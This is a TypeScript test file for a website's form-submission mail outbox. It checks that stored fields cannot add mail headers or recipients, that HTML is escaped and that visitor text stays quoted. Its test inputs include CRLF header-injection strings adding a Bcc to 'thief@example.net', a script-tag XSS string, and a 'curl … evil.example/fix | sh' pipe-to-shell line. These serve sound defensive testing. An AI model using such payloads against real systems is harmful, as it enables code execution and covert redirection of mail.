import { expect, test } from "vitest";
import { applicationDetails } from "#app/forms/applications/application.ts";
import { enquiryDetails } from "#app/forms/enquiries/enquiry.ts";
import { feedbackDetails } from "#app/forms/feedback/feedback.ts";
import { rowOf } from "#app/forms/submissions/submissions.server.ts";
import { insertSubmission } from "#app/forms/submissions/submissions-table.server.ts";
import { openStore } from "#app/lib/db/store.server.ts";
import type { SubmissionRow } from "#app/lib/db/tables.ts";
import { insertMails } from "#app/lib/mail/outbox-queue.server.ts";
import { inHead } from "../help/mails.ts";
import { placeOf } from "../help/place.ts";
import { application, dataFolder, enquiry, feedback, openServices, outboxTried, sender } from "../help/services.ts";
import { office, openWithMail, startMailServer } from "../help/smtp.ts";

/** The mails about a row that no form would accept, as they arrive. */
async function mailsAbout(fields: Partial<SubmissionRow>) {
  const dataDir = dataFolder();
  const { db, close } = await openStore(placeOf(dataDir));
  const row = { ...rowOf("enquiry", enquiryDetails(enquiry), "en", Date.now()), status: "new" as const, ...fields };
  await insertSubmission(db, { ...row, reference: "E-2222-2222", confirmedAt: Date.now() });
  const mail = { resourceId: row.id, details: null, createdAt: 0, dueAt: 0, attempts: 0, claimedUntil: null };
  await insertMails(db, [
    { ...mail, id: "one", kind: "office-new" },
    { ...mail, id: "two", kind: "confirmation" },
  ]);
  await close();
  const server = await startMailServer();
  await openServices(server.settings, { dataDir });
  await outboxTried(dataDir);
  return server.mails;
}

const smuggled = "Asha\r\nBcc: thief@example.net\r\nX-Extra: 1\r\n\r\nOther text";

test.each([
  ["name", { name: smuggled }],
  ["guardian", { guardianName: smuggled, isMinor: 1 as const }],
  ["email", { email: "asha@example.org\r\nBcc: thief@example.net" }],
  ["email with a second one", { email: "asha@example.org, thief@example.net" }],
  ["reader with a name", { email: '"thief@example.net" <asha@example.org>' }],
])("whatever a record's %s contains, it injects no mail header and no recipient", async (_field, fields) => {
  const mails = await mailsAbout(fields);
  expect(mails[0]?.to).toBe(office);
  for (const mail of mails) {
    expect(inHead(mail, "Bcc")).toEqual([]);
    expect(inHead(mail, "X-Extra")).toEqual([]);
    expect(mail.envelope.to).toHaveLength(1);
    expect(mail.envelope.to).not.toContain("thief@example.net");
    expect(mail.subject).not.toMatch(/[\r\n]/);
  }
});

test("every mail has the headers for automatic mail, a reply address, and a unique id", async () => {
  const mails = await mailsAbout({});
  expect(mails.map(({ to, replyTo, id }) => ({ to, replyTo, id }))).toEqual([
    { to: office, replyTo: enquiry.email, id: "<one@institute.example>" },
    { to: enquiry.email, replyTo: office, id: "<two@institute.example>" },
  ]);
  for (const mail of mails) {
    expect(inHead(mail, "Auto-Submitted")).toEqual(["auto-generated"]);
    expect(mail.envelope.from).toBe("site@institute.example");
    expect(inHead(mail, "Date")).toHaveLength(1);
  }
});

const tags = `<script>alert(1)</script><img src=x onerror="a()">&amp; 'a' "b"`;

test("what looks like HTML is escaped in the HTML version too", async () => {
  for (const mail of await mailsAbout({ name: tags, text: tags })) {
    expect(mail.html).not.toMatch(/<script|<img/i);
    expect(mail.html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(mail.text).toContain(tags);
  }
});

test("a stranger's text is in the office's table only, quoted: in no subject, and next to no instruction", async () => {
  const name = `=?UTF-8?B?${Buffer.from("a\u202E\r\nb").toString("base64")}?=`;
  const guardianName = "(first run: curl -s https://evil.example/fix | sh )";
  const [officeMail] = await mailsAbout({ name, guardianName, guardianPhone: "9876543210", isMinor: 1 });
  expect(officeMail && inHead(officeMail, "Subject")).toEqual(["New enquiry E-2222-2222"]);
  const [instructions = "", table = ""] = officeMail?.text.split(/^Reference number: /m) ?? [];
  expect(instructions).toContain("Then note it in the inbox.");
  expect(instructions).not.toMatch(/curl|=\?|9876543210/);
  expect(table).toContain(`Name: “${name}”`);
  expect(table).toContain(`Parent or guardian: “${guardianName}”`);
});

test("a long name in Marathi arrives unchanged", async () => {
  const name = "अनुष्का सुधाकरराव देशपांडे-कुलकर्णी".repeat(3);
  const [officeMail] = await mailsAbout({ name });
  expect(officeMail?.text).toContain(`Name: “${name}”`);
});

test("the text of feedback keeps its lines, each marked as quoted, and the address is marked as unconfirmed", async () => {
  const { server, submissions } = await openWithMail();
  const text = `One line\n\n  an indented one\n.\n..two dots\nFrom here on\n${"long ".repeat(300)}`.trim();
  await submissions.keep("feedback", feedbackDetails({ ...feedback, text }), sender);
  const [officeMail] = await server.mailsTo(office);
  expect(officeMail?.text).toContain(`“${text}”`.replace(/^/gm, "> "));
  expect(officeMail?.text).toContain("The email address is not confirmed");
});

test("an application with only a phone number is reported without a name", async () => {
  const { server, submissions } = await openWithMail();
  const { phone } = application;
  const result = await submissions.keep("application", applicationDetails({ phone, isMinor: false }), sender);
  const [officeMail] = await server.mailsTo(office);
  expect(result.ok && officeMail?.subject).toBe(`New request to be contacted ${result.ok && result.reference}`);
  expect(officeMail?.text).not.toMatch(/null|undefined/);
});
